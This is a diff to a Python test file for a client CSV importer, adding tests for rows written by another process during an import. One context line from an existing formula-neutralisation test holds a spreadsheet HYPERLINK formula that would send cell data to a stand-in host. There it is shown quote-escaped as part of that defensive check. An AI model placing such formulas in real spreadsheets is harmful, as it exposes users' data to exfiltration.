@@ -370,3 +370,64 @@ def test_rejects_file_neutralises_formulas(tmp_path, wb):
     rejects = _rejects(tmp_path / "r.csv")
     assert rejects["nome"].tolist() == ["'=HYPERLINK(\"http://x/?d=\"&A1,\"Clique\")", "'@SUM(1+1)"]
     assert rejects["documento"].tolist() == ["123", "'+5511"]
+
+
+# -- clients written by another process while a file is imported ---------------------------------
+def _another_process_imports(db, tmp_path, text: str) -> None:
+    other = tmp_path / "outro.csv"
+    other.write_text(text, encoding="utf-8")
+    out = _cli(db, other)
+    assert out.returncode == 0, out.stdout + out.stderr
+
+
+def _store_two_clients(wb, tmp_path) -> None:
+    first = tmp_path / "antes.csv"
+    first.write_text("code;kind;name;document\nP1;PF;Pré Um;12345678909\nP2;PF;Pré Dois;98765432100\n",
+                     encoding="utf-8")
+    assert import_clients(wb.store, first).loaded == 2
+
+
+def test_clients_another_process_writes_during_the_import_are_not_duplicated(tmp_path, wb, monkeypatch):
+    from workbench.storage import bulk
+
+    src = tmp_path / "clientes.csv"
+    src.write_text("code;kind;name;document\nX1;PF;Ana Um;52998224725\nX2;PF;Bia Dois;39053344705\n"
+                   "X3;PF;Caio Tres;11144477735\nX4;PF;Davi Quatro;71428793860\n", encoding="utf-8")
+    _store_two_clients(wb, tmp_path)
+    real_plan = bulk.search_placement.plan
+
+    def plan_meanwhile(existing, keys):        # the file is checked; before its first batch, another import
+        _another_process_imports(wb.path, tmp_path, "code;kind;name;document\n"
+                                 "x3;PF;Outro Caio;86288366757\nY9;PF;Outra Davi;714.287.938-60\n")
+        return real_plan(existing, keys)
+
+    monkeypatch.setattr(bulk.search_placement, "plan", plan_meanwhile)
+    report = import_clients(wb.store, src)
+    conflict = "código ou documento cadastrado por outro processo durante a importação"
+    assert report.loaded == 2 and report.rejected == [(4, "X3", conflict), (5, "X4", conflict)]
+    rows, indexed = _clients(wb.path)
+    assert [r[0] for r in rows] == ["P1", "P2", "x3", "Y9", "X1", "X2"] and indexed == 6
+
+
+def test_a_replaced_desk_during_the_import_is_checked_whole(tmp_path, wb, monkeypatch):
+    from workbench.storage import bulk
+
+    _store_two_clients(wb, tmp_path)
+    before = pd.DataFrame({"code": ["P1", "P2"], "kind": "PF", "name": ["Pré Um", "Pré Dois"],
+                           "document": ["12345678909", "98765432100"]})
+    src = tmp_path / "clientes.csv"
+    src.write_text("code;kind;name;document\nX1;PF;Ana Um;52998224725\nX2;PF;Bia Dois;39053344705\n", encoding="utf-8")
+    real_plan = bulk.search_placement.plan
+
+    def replaced_meanwhile(existing, keys):     # as `workbench demo --replace` does: the same ids, other clients
+        again = before.assign(client_id=[1, 2], code=["P1", "x2"], document=["12345678909", "86288366757"],
+                              created_at=pd.Timestamp("2024-06-01", tz="UTC"))
+        wb.store.load_tables([("clients", again)], replace=True)
+        return real_plan(existing, keys)
+
+    monkeypatch.setattr(bulk.search_placement, "plan", replaced_meanwhile)
+    report = import_clients(wb.store, src)
+    assert report.loaded == 1
+    assert report.rejected == [(3, "X2", "código ou documento cadastrado por outro processo durante a importação")]
+    rows, indexed = _clients(wb.path)
+    assert [r[0] for r in rows] == ["P1", "x2", "X1"] and indexed == 3
